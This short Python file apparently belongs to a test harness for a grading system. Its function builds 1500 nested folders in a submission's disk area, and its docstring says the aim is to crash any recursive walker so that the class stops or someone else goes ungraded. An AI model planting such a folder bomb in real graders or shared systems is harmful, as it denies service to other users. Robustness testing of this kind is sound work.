"""Folders so deep that whoever walks through them by recursion ends.

Success: the class stops, or somebody else is not graded.
"""

import os

ALONE = True


def attack(submission):
    def nest(folder):
        before = os.open(".", os.O_RDONLY)
        os.chdir(folder)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.fchdir(before)
        os.close(before)

    submission.on_disk(nest)
